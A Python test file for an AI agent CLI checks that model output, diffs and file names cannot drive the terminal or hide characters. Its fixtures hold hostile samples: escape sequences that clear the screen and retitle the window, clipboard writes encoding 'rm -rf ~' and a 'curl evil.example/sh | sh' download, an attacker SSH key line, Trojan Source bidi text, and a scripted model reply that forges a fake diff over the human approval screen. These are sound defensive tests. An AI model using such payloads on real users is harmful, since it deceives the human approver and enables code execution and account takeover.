"""The terminal is a trust boundary: text the CLI did not write itself (a model's tokens and
answers, diffs, file names, goals, reasons, events) reaches the person's terminal only
through ``render.visible``, so it can neither drive the terminal (clear it, move the
cursor, set a scroll region, hide text, retitle the window, write the clipboard, make a
hyperlink) nor hide characters (bidi controls: Trojan Source).

Proved by hostile tests through the real product path: ``threadbound run --approve`` in a
pseudo-terminal rendered by ``pyte``, with a scripted model whose answers carry escape
sequences; ``top`` (in tmux) and ``tasks`` showing a hostile goal; and, without Ray, every
event kind and every field of ``top``'s screen filled with hostile text, plus a reading
of the CLI's source that finds no writer bypassing the rule."""

from __future__ import annotations

import ast
import fcntl
import io
import os
import re
import select
import shutil
import signal
import struct
import subprocess
import sys
import termios
import time
import unicodedata
from pathlib import Path

import pytest
import yaml

from threadbound.runtime.cli.render import Live, sentence, summary_lines, visible
from threadbound.runtime.task import Event, TaskResult, TaskSummary

ROOT = Path(__file__).resolve().parents[1]
CLI = ROOT / "runtime" / "cli"

# What a hostile model or submitter writes: clear the screen, move the cursor, a scroll
# region, a window title (OSC 0), a clipboard write (OSC 52), a hyperlink (OSC 8), hidden
# text, C1 CSI, DEL, a bare CR, bidi controls, a zero-width space, a line separator, and
# Rich markup that would crash or link.
HOSTILE = ("[/]x[link=http://evil.example]y[/link][bold]\x1b[2J\x1b[H\x1b[13;24r\x1b[13;1H"
           "\x1b]0;pwned\x07\x1b]52;c;cm0gLXJmIH4=\x07\x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\"
           "\x1b[8mhidden\x9b2J\x7f\rover\u202e\u2066rtl\u2069\u200b\u2028end")

# The escape sequences the CLI writes itself: the status line, the reset before a prompt.
OURS = {"\x1b[2m", "\x1b[0m", "\x1b7", "\x1b[r", "\x1b8"}
_ESC_SEQ = re.compile(r"\x1b(?:\[[0-?]*[ -/]*[@-~]|\][^\x07\x1b]*(?:\x07|\x1b\\)?|.)", re.S)


def foreign_controls(text: str) -> list[str]:
    """Every control or invisible character in ``text`` that the CLI did not mean to write."""
    rest = _ESC_SEQ.sub(lambda m: "" if m.group() in OURS else m.group(), text.replace("\r\x1b[K", ""))
    bad = [m.group() for m in _ESC_SEQ.finditer(rest)]
    bad += [c for c in rest if c not in "\n\t" and unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")
            and c != "\x1b"]
    return bad


# -- the function ---------------------------------------------------------------------------


@pytest.mark.parametrize("raw, shown", [
    ("a\x1b[2Jb", "a\\x1b[2Jb"),                       # ESC (CSI): clear screen
    ("\x1b]52;c;eA==\x07", "\\x1b]52;c;eA==\\x07"),     # OSC 52 and BEL
    ("a\rb", "a\\x0db"), ("del\x7f", "del\\x7f"), ("c1\x9b2J", "c1\\x9b2J"), ("nul\x00", "nul\\x00"),
    ("if x\u202e\u2066 # admin\u2069", "if x<U+202E><U+2066> # admin<U+2069>"),
    ("lrm\u200e rlm\u200f alm\u061c", "lrm<U+200E> rlm<U+200F> alm<U+061C>"),
    ("zw\u200bsp", "zw<U+200B>sp"), ("line\u2028sep", "line<U+2028>sep"), ("lone\ud800", "lone<U+D800>"),
    ("keeps\nlayout\tand ünïcödé 漢字 ✓", "keeps\nlayout\tand ünïcödé 漢字 ✓"),
])
def test_visible_marks_every_control_and_invisible_character(raw, shown):
    assert visible(raw) == shown
    assert visible(shown) == shown  # applying it twice changes nothing
    assert not foreign_controls(visible(raw))


def test_one_line_fields_mark_newlines_and_tabs_too():
    assert visible("a\nb\tc", layout=False) == "a\\x0ab\\x09c"


# -- run / resume: every event kind, every field hostile ----------------------------------------


def hostile_events(tid=HOSTILE) -> list[Event]:
    h, a = HOSTILE, "coder" + HOSTILE

    def ev(i, kind, agent, data):
        return Event(tid, i, kind, agent, data, 0.0)

    layers = [{"name": h, "applied": True}, {"name": h, "applied": False}]
    return [
        ev(0, "step_started", a, {"round": 1, "slot": h, "attempt": 2}),
        ev(1, "tokens", a, {"text": h + "\n" + h, "n": 3}),
        ev(2, "message", a, {"text": h}),
        ev(3, "test_result", a, {"ok": False, "summary": h}),
        ev(4, "sandbox", a, {"isolation": h, "layers": layers}),
        ev(5, "level", None, {"level": h, "reasons": [h]}),
        ev(6, "resumed", None, {"snapshot": h, "replayed": h, "restarting": {h: h}, "skipped": [h]}),
        ev(7, "edit_problems", a, {"problems": [h, h]}),
        ev(8, "applied", None, {"applied": [h], "refused": [h]}),
        ev(9, "input_requested", None, {"request": h, "payload": {"kind": "approval", "diff": h, "files": [h]}}),
        ev(10, "input_requested", a, {"request": 2, "payload": h}),
        ev(11, "input_received", None, {"request": h, "value": h}),
        ev(12, "message_received", None, {"n": h, "message": h}),
        ev(13, "waiting", None, {"requests": [h], "wait_timeout_s": 5}),
        ev(14, "health", None, {"mode": h, "reasons": [h]}),
        ev(15, "custom" + h, a, {h: h}),
        ev(16, "test_result", a, {"ok": True, "summary": {"odd": h}}),  # an agent's event of an odd shape
        ev(17, "retrying", a, {"delay_s": 0.1, "attempt": h}),
        ev(18, "step_failed", a, {"error": h}),
        ev(19, "step_started", "reviewer" + h, {"round": 1, "slot": h}),
        ev(20, "tokens", "reviewer" + h, {"text": h, "n": 1}),
        ev(21, "step_finished", "reviewer" + h, {"elapsed_s": 1.0, "output": {"summary": h}}),
        ev(22, "failed", None, {"error": h, "workspace_copy": h, "workspace_copy_kept": True}),
    ]


@pytest.mark.parametrize("tty", [False, True])
def test_no_event_of_any_kind_drives_the_terminal_that_follows_a_task(tty):
    out = io.StringIO()
    live = Live(out, tty=tty, clock=iter(range(1000)).__next__)
    for ev in hostile_events():
        live(ev)
    live._show_status()
    live.stop()
    text = out.getvalue()
    assert not foreign_controls(text), foreign_controls(text)[:5]
    assert "[/]x[link=http://evil.example]y[/link]" in text and "\\x1b[2J" in text and "<U+202E>" in text
    assert ("\x1b[2m" in text) is tty  # the status line: ours, on a terminal only
    res = TaskResult(HOSTILE, HOSTILE, {"reviewer": {"changed": [HOSTILE], "rounds": [
        {"round": 1, "changed": [HOSTILE], "verdict": HOSTILE}]}, "tester": {"summary": HOSTILE}}, 1, HOSTILE, 1.0)
    lines = summary_lines(res, hostile_events()[-1])
    assert not foreign_controls("\n".join(lines)) and all("\n" not in line for line in lines)
    for ev in hostile_events():
        assert not foreign_controls(sentence(ev) or "")


def test_parallel_agents_keep_each_line_whole_and_say_whose_it_is():
    # Given: the tester and the reviewer at work at once, the reviewer's sentence arriving in
    # pieces with the tester's events between them (as in a parallel round)
    def ev(i, kind, agent, **data):
        return Event("t1", i, kind, agent, data, 0.0)

    events = [ev(0, "step_started", "tester", round=1, slot="agent/1"),
              ev(1, "step_started", "reviewer", round=1, slot="agent/2"),
              ev(2, "tokens", "reviewer", text="FizzBuzz is still ", n=4),
              ev(3, "test_result", "tester", ok=False, summary="2 passed, 1 failed, 0 errors"),
              ev(4, "tokens", "tester", text="tests ran", n=2),
              ev(5, "tokens", "reviewer", text="missing for multiples of 15.\nVERDICT: ", n=8),
              ev(6, "step_finished", "tester", elapsed_s=1.0, output={"summary": "2 passed"}),
              ev(7, "tokens", "reviewer", text="REQUEST_CHANGES", n=2),
              ev(8, "step_finished", "reviewer", elapsed_s=2.0, output={"summary": "request changes"})]
    for tty in (False, True):
        out = io.StringIO()
        live = Live(out, tty=tty, clock=iter(range(1000)).__next__)
        for e in events:
            live(e)
        live.stop()
        plain = re.sub(r"\r\x1b\[K|\x1b\[2m.*?\x1b\[0m", "", out.getvalue())
        # Then: each agent's line is whole, prefixed with its role while both run
        assert plain.splitlines() == [
            "── round 1 · tester on agent/1 ──",
            "── round 1 · reviewer on agent/2 ──",
            "   · tester: tests failed: 2 passed, 1 failed, 0 errors",
            "reviewer │ FizzBuzz is still missing for multiples of 15.",
            "tester │ tests ran",
            "   ✓ tester done in 1.0s: 2 passed",
            "── round 1 · reviewer (continued) ──",
            "VERDICT: REQUEST_CHANGES",
            "   ✓ reviewer done in 2.0s: request changes",
        ], plain


# -- the source: no writer bypasses the rule ------------------------------------------------------

# Calls whose result is safe to write: visible() itself, and what is built from it or is
# ASCII-escaped JSON (json.dumps escapes every control and non-ASCII character).
_SAFE_CALLS = {"visible", "plain", "json.dumps", "summary_lines", "sentence"}
_OUR_SEQUENCES = {"_CLEAR", "TERMINAL_RESET"}


def _name(node: ast.AST) -> str:
    if isinstance(node, ast.Name):
        return node.id
    if isinstance(node, ast.Attribute):
        return f"{_name(node.value)}.{node.attr}"
    return ""


def _safe(node: ast.AST) -> bool:
    if isinstance(node, ast.Constant) and isinstance(node.value, str):
        return True
    if isinstance(node, ast.Name) and node.id in _OUR_SEQUENCES:
        return True
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add):
        return _safe(node.left) and _safe(node.right)
    if isinstance(node, ast.Subscript):  # a slice of a safe text
        return _safe(node.value)
    if isinstance(node, ast.Call):
        name = _name(node.func)
        if name in _SAFE_CALLS:
            return True
        if name.endswith(".join") and isinstance(node.func.value, ast.Constant):  # "\n".join(<safe>)
            return all(_safe(a) for a in node.args)
    return False


def test_no_module_of_the_cli_writes_to_the_terminal_but_through_visible():
    problems = []
    for path in sorted(CLI.glob("*.py")):
        tree = ast.parse(path.read_text())
        for node in ast.walk(tree):
            where = f"{path.name}:{getattr(node, 'lineno', '?')}"
            if isinstance(node, ast.Attribute) and _name(node) in ("sys.stdout.write", "sys.stderr.write"):
                if path.name != "render.py":  # render's out() and say() are the writers
                    problems.append(f"{where}: writes to {_name(node)[:-6]} directly; use out() or say()")
            if not isinstance(node, ast.Call):
                continue
            name = _name(node.func)
            if name == "print" and not all(_safe(a) for a in node.args):
                problems.append(f"{where}: print() of text not passed through visible(); use out() or say()")
            elif name.endswith(".write") and name not in ("sys.stdout.write", "sys.stderr.write") and not all(
                    _safe(a) for a in node.args):
                problems.append(f"{where}: {name}() of text not passed through visible()")
            elif name in ("Text", "rich.text.Text") and node.args and not _safe(node.args[0]):
                problems.append(f"{where}: Text() of text not passed through visible(); use plain()")
            elif path.name == "top.py" and name.endswith(".append") and node.args and isinstance(
                    node.args[0], (ast.JoinedStr, ast.BinOp)):
                problems.append(f"{where}: Text.append() of a formatted text; use plain()")
            elif name.endswith("add_row") and not all(
                    isinstance(a, ast.Call) and _name(a.func) == "plain" or isinstance(a, ast.Name) and a.id == "agents"
                    for a in node.args):
                problems.append(f"{where}: a table cell that is not plain(): Rich would read it as markup")
    assert not problems, "\n".join(problems)


# -- top: every field hostile --------------------------------------------------------------------


def test_top_draws_a_hostile_pool_as_text_never_as_markup_or_escape_sequences():
    from rich.console import Console

    from threadbound.runtime.cli.top import render

    h = HOSTILE
    task = TaskSummary(task_id="t1" + h, status="running" + h, goal=h, agents=("coder" + h,), round=1, events=3,
                       submitted_at=0.0, finished_at=None, error=h)
    stats = {"name": "p" + h, "tasks": {"running" + h: 1}, "queue_depth": h, "max_agents": h, "busy": h,
             "running": {"t1" + h: ["coder" + h]},
             "slots": [{"name": "agent/0" + h, "owner": "t1" + h, "busy": True, "pid": h, "uses": h}]}
    health = {"pool": h, "mode": "normal" + h, "signals": {h: {"value": 3, "threshold": 2, "over": True}},
              "transitions": [{"at": 0.0, "from": h, "to": h, "reasons": [h]}]}
    console = Console(width=400, file=io.StringIO(), force_terminal=True, color_system="truecolor")
    console.print(render(stats, health, [task], problem=h))  # Rich's MarkupError here was the crash of `top`
    drawn = console.file.getvalue()
    sequences = {m.group() for m in _ESC_SEQ.finditer(drawn)}
    assert all(re.fullmatch(r"\x1b\[[0-9;]*m", s) for s in sequences), sequences  # colours only: no link, no OSC
    plain_text = re.sub(r"\x1b\[[0-9;]*m", "", drawn)
    assert not foreign_controls(plain_text)
    assert "[link=http://evil.example]y[/link]" in plain_text and "\\x1b]52;" in plain_text


# -- through the product: run --approve in a pseudo-terminal -----------------------------------

REAL_LINE = 'KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 attacker@evil"  # appended to .ssh/authorized_keys'
TROJAN = 'ACCESS = "user\u202e \u2066# admin only\u2069 \u2066"'
EVIL_NAME = "evil\x1b[2K\x1b[1A\x1b[31mname.py"
CODER = f"""Here is the change:

```python fizzbuzz.py
def fizzbuzz(n):
    if n % 15 == 0:
        return "FizzBuzz"
    if n % 3 == 0:
        return "Fizz"
    if n % 5 == 0:
        return "Buzz"
    return str(n)


{TROJAN}
{REAL_LINE}
```

```diff
--- /dev/null
+++ b/{EVIL_NAME}
@@ -0,0 +1 @@
+x = 1
```
"""
# The reviewer's answer draws a harmless fake diff over a cleared screen, then sets a
# scroll region for everything after it (so the real diff would scroll away inside it),
# retitles the window, writes the clipboard and turns on hidden text.
FAKE = ("\x1b[2J\x1b[H--- a/fizzbuzz.py\r\n+++ b/fizzbuzz.py\r\n@@ -1 +1 @@\r\n-# fizzbuzz\r\n"
        "+# FizzBuzz (comments only)\r\n\x1b[5;1HFAKE-DIFF: only a comment changed\r\n")
REVIEWER = (f"Looks fine.\n{FAKE}\x1b[13;24r\x1b[13;1H\x1b]0;pwned-title\x07"
            "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==\x07\x1b[8m\nVERDICT: APPROVE\n")


class Pty:
    """A command in a pseudo-terminal of 80x24, its output rendered by pyte as a terminal
    would show it; every byte it wrote is kept too."""

    def __init__(self, argv, env, cols=80, rows=24):
        import pyte

        self.screen = pyte.Screen(cols, rows)
        self.stream = pyte.ByteStream(self.screen)
        self.raw = bytearray()
        master, slave = os.openpty()
        fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", rows, cols, 0, 0))
        self.proc = subprocess.Popen(argv, stdin=slave, stdout=slave, stderr=slave, env=env, close_fds=True,
                                     start_new_session=True)
        os.close(slave)
        self.master = master

    def pump(self, timeout_s=0.2):
        ready, _, _ = select.select([self.master], [], [], timeout_s)
        if ready:
            try:
                data = os.read(self.master, 65536)
            except OSError:  # the other side closed
                return False
            self.raw += data
            self.stream.feed(data)
            return bool(data)
        return True

    def text(self):
        return "\n".join(line.rstrip() for line in self.screen.display)

    def wait_for(self, what, check, timeout_s):
        deadline = time.monotonic() + timeout_s
        while not check(self.text()):
            if time.monotonic() > deadline or (self.proc.poll() is not None and not self.pump(0)):
                pytest.fail(f"the terminal never showed {what}; it shows:\n{self.text()}\n--- raw tail:\n"
                            f"{bytes(self.raw[-3000:])!r}")
            self.pump()
        return self.text()

    def type(self, text):
        os.write(self.master, text.encode())

    def finish(self, timeout_s):
        deadline = time.monotonic() + timeout_s
        while self.proc.poll() is None and time.monotonic() < deadline:
            self.pump()
        while self.pump(0.1) and self.proc.poll() is not None and select.select([self.master], [], [], 0)[0]:
            pass
        return self.proc.wait(timeout=5)

    def close(self):
        if self.proc.poll() is None:
            os.killpg(self.proc.pid, signal.SIGKILL)
            self.proc.wait(10)
        os.close(self.master)


@pytest.mark.usefixtures("ray_session")
@pytest.mark.timeout(240)
@pytest.mark.parametrize("mode, apply", [("parallel", True), ("sequential", False)])
def test_a_model_cannot_forge_the_approval_screen_in_a_real_terminal(tmp_path, pool_name, mode, apply):
    # Given: the fizzbuzz example and a scripted model whose coder adds a key line, a Trojan
    # Source line and a file named with escape sequences, and whose reviewer draws a fake
    # diff with escape sequences
    ws = tmp_path / "fizzbuzz"
    shutil.copytree(ROOT / "examples" / "fizzbuzz", ws)
    before = {p.name: p.read_text() for p in ws.iterdir()}
    config = tmp_path / "hostile.yaml"
    config.write_text(yaml.safe_dump({
        "name": pool_name, "metrics": {"port": 0}, "max_agents": 3,
        "model": {"backend": "simulated", "tokens_per_s": 2000, "answers": {"coder": [CODER], "reviewer": [REVIEWER]}},
    }))
    argv = [sys.executable, "-m", "threadbound.runtime.cli", "run", str(ws), "--config", str(config), "--approve",
            "--address", os.environ["RAY_ADDRESS"], *(["--apply"] if apply else []),
            *(["--sequential"] if mode == "sequential" else [])]
    term = Pty(argv, {**os.environ, "TERM": "xterm", "COLUMNS": "80", "LINES": "24"})
    try:
        # When: the task asks for approval in the terminal
        screen = term.wait_for("the approval prompt", lambda t: "approve? y =" in t, timeout_s=180)
        flat = "".join(term.screen.display)  # the screen's rows as one text: wrapped lines whole again
        # Then: what the person sees at the prompt is the real change: its key line, below
        # the streamed text and not inside a region it set, and the files it writes
        assert REAL_LINE in flat, screen
        assert "FAKE-DIFF" not in screen.split("the change to approve")[-1]
        assert "files: fizzbuzz.py" in screen
        assert ("write the change to your workspace" in flat) is apply
        assert ("nothing is written to your workspace without --apply" in flat) is (not apply)
        assert "WARNING: the change contains control characters or invisible Unicode" in flat
        # ... the window title and the clipboard untouched, no escape sequence of the model's written
        assert term.screen.title in ("", None) or "pwned" not in term.screen.title
        written = bytes(term.raw).decode("utf-8", "replace").replace("\r\n", "\n")  # the terminal's own CR
        assert not foreign_controls(written), foreign_controls(written)[:10]
        assert "\u202e" not in written and "\\x1b]52;" in written  # shown as text, marked
        # ... the Trojan Source line marked; the file named with escape sequences refused
        assert 'ACCESS = "user<U+202E> <U+2066># admin only<U+2069> <U+2066>"' in written
        assert "refused: its name has a control character (U+001B)" in written
        # When: the person answers (reject the --apply run; approve the other)
        term.type("n this is not what the reviewer showed\r" if apply else "y\r")
        code = term.finish(timeout_s=60)
        # Then: nothing reaches the workspace either way
        assert {p.name: p.read_text() for p in ws.iterdir()} == before
        summary = term.text()
        if apply:
            assert code == 1 and "rejected" in summary
        else:
            assert code == 0 and "your workspace is untouched" in summary, summary
    finally:
        term.close()


# -- tasks and top show a hostile goal as text -----------------------------------------------------


@pytest.mark.usefixtures("ray_session")
@pytest.mark.timeout(120)
def test_tasks_shows_a_hostile_goal_escaped(pool_name):
    from conftest import make_pool

    from threadbound.runtime import Task

    pool = make_pool(pool_name, ray={"namespace": "threadbound"})
    try:
        handle = pool.submit(Task(goal=HOSTILE, agents=["a"], inputs={"a": {"tokens": 1}}))
        handle.result(timeout=60)
        proc = subprocess.run([sys.executable, "-m", "threadbound.runtime.cli", "tasks", "--name", pool_name,
                               "--address", os.environ["RAY_ADDRESS"]], capture_output=True, text=True, timeout=100)
        assert proc.returncode == 0, proc.stderr
        row = next(line for line in proc.stdout.splitlines() if line.startswith(handle.task_id))
        assert not foreign_controls(proc.stdout) and "[/]x[link=http://evil.example]" in row and "\\x1b[2J" in row
    finally:
        pool.shutdown()


@pytest.mark.usefixtures("ray_session")
@pytest.mark.timeout(90)
def test_top_shows_a_hostile_goal_as_text_in_a_real_terminal_and_quits_cleanly(tmp_path, pool_name):
    from conftest import make_pool
    from tmux_terminal import prompt_is_back, task_row, top_command, user_terminal

    from threadbound.runtime import Task

    with user_terminal(tmp_path / "home") as term:
        pool = make_pool(pool_name, ray={"namespace": "threadbound"})
        try:
            goal = "[/][link=http://x]y[/link]\u202e\x1b]0;pwned\x07"  # shortened to 45 characters in the column
            handle = pool.submit(Task(goal=goal, agents=["a"], inputs={"a": {"tokens": 1}}))
            handle.result(timeout=60)
            term.type(top_command(pool_name))
            shown = term.wait_for("the task with its goal", lambda t: handle.task_id in t, timeout_s=40)
            row = task_row(shown, handle.task_id)
            assert "[/][link=http://x]y[/link]<U+202E>\\x1b]0;" in row, row
            assert "pwned" not in term.title()
            term.keys("q")
            after = term.wait_for("the shell prompt after top", lambda t: "top exited" in t and prompt_is_back(t))
            assert "top exited 0" in after
        finally:
            pool.shutdown()
